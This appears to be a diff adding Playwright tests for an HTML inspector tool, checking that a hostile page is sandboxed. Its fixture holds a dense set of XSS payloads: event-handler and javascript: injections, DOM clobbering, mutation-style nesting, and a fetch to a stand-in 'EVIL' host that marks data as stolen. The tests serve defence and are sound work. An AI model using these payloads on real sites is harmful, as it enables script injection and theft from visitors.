@@ -1,0 +1,110 @@
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Page as Tab
+
+from scrapy_winnow.commands import main
+from tests.scrapy_winnow.inspector.browsing import inspected, opened
+
+HOSTILE = """<!DOCTYPE html><html lang="en" onclick="steal()"><head><title></title></script><script>steal()</script>
+</title><base href="http://EVIL/"><meta http-equiv="refresh" content="0; url=http://EVIL/refreshed">
+<link rel="stylesheet" href="http://EVIL/style.css">
+<link rel="preload" as="image" href="http://EVIL/p">
+<style>@import url(http://EVIL/import.css); body { background: url(http://EVIL/background.png) }
+* { pointer-events: none !important } winnow-layer { display: none !important }</style>
+<script>function steal() { window.top.stolen = 1; parent.stolen = 1; fetch("http://EVIL/stolen") }
+steal()</script></head><body onload="steal()" onpageshow="steal()">
+<h1 onmouseover="steal()">The harbour is closed until the storm is over, the council says</h1>
+<img src="http://EVIL/pixel.gif" onerror="steal()" name="body">
+<img src=x onerror=steal() name=createElement id=data>
+<form name="documentElement" action="http://EVIL/form"><input name="appendChild" autofocus onfocus="steal()">
+<button>Send</button></form><iframe src="http://EVIL/frame" srcdoc="<script>top.stolen = 1</script>"></iframe>
+<object data="http://EVIL/object"></object><embed src="http://EVIL/embed">
+<video src="//EVIL/v"
+autoplay poster="http://EVIL/poster"></video><audio src="http://EVIL/a" autoplay></audio>
+<svg onload="steal()"><script>steal()</script><a xlink:href="javascript:steal()"><text>svg</text></a>
+<use href="http://EVIL/use.svg#x"/><image href="http://EVIL/svg-image"/><animate onbegin="steal()"/>
+<foreignObject><iframe src="javascript:steal()"></iframe></foreignObject>
+<set attributeName="href" to="javascript:steal()"/></svg>
+<math><mtext><table><mglyph><style><img src=x onerror="steal()"></style></mglyph></table></mtext></math>
+<a id="go" href="javascript:steal()" target="_top" ping="http://EVIL/ping">A link that would run something</a>
+<a id="out" href="http://EVIL/left" target="_top">A link that would lead away from here</a>
+<p>&lt;/script&gt;&lt;script&gt;parent.stolen = 1&lt;/script&gt; </p><template><script>steal()</script></template>
+<noscript><img src="http://EVIL/noscript" onerror="steal()"></noscript>
+<p>A long paragraph that stands here so that the page has some text which is worth keeping, and more.</p>
+<details ontoggle="steal()" open><summary>More</summary><p style="background:url(http://EVIL/inline)">Hidden</p>
+</details><marquee onstart="steal()">moving</marquee></body></html>"""
+
+
+@pytest.fixture
+def evil() -> Iterator[tuple[str, list[str]]]:
+    """A server that notes who asks it for what: its address, and the paths that were asked for."""
+    asked: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(204)
+            self.end_headers()
+
+        def do_POST(self) -> None:
+            self.do_GET()
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
+    thread.start()
+    yield f"127.0.0.1:{server.server_address[1]}", asked
+    server.shutdown()
+    server.server_close()
+    thread.join()
+
+
+def _try(tab: Tab, url: str) -> list[str]:
+    """Open an inspector, click and type around in the page; return the windows that opened."""
+    windows: list[str] = []
+    tab.context.on("page", lambda other: windows.append(other.url))
+    opened(tab, url)
+    frame = tab.frame_locator("#stage iframe")
+    for link in ("#go", "#out", "button", "h1", "summary"):
+        for button in ("left", "middle"):
+            frame.locator(link).first.dispatch_event("auxclick" if button == "middle" else "click")
+    frame.locator("a").first.click(force=True, modifiers=["Control"])
+    frame.locator("input").press("Enter")
+    for form in ("Markdown", "HTML"):
+        tab.click(f"#tab-{form}")
+        tab.frame_locator("#panel iframe").locator("a").first.dispatch_event("click")
+    tab.click("#tab-Text")
+    tab.wait_for_timeout(300)
+    return windows
+
+
+def test_nothing_of_it_runs_is_loaded_or_leads_away(tab: Tab, tmp_path: Path, evil: tuple[str, list[str]]) -> None:
+    host, asked = evil
+    page = tmp_path / "hostile.html"
+    page.write_text(HOSTILE.replace("EVIL", host), encoding="utf-8")
+    with inspected(page) as server:
+        assert _try(tab, server.url) == []
+        assert asked == []
+        assert tab.url == server.url
+        assert tab.evaluate("window.stolen") is None
+        (frame,) = [frame for frame in tab.frames if frame.parent_frame is not None]
+        assert frame.evaluate("[self.origin, typeof steal, document.scripts.length]") == ["null", "undefined", 1]
+        outside = frame.evaluate("(() => { try { return parent.document.title } catch { return 'kept out' } })()")
+        assert outside == "kept out"
+        assert "Content" in str(tab.locator("#legend").text_content())
+
+
+def test_nor_is_it_in_the_file_that_is_written(tab: Tab, tmp_path: Path, evil: tuple[str, list[str]]) -> None:
+    host, asked = evil
+    page, file = tmp_path / "hostile.html", tmp_path / "inspected.html"
+    page.write_text(HOSTILE.replace("EVIL", host), encoding="utf-8")
+    assert main(["inspect", str(page), "-o", str(file)]) == 0
+    assert _try(tab, file.as_uri()) == []
+    assert asked == []
+    assert tab.evaluate("window.stolen") is None
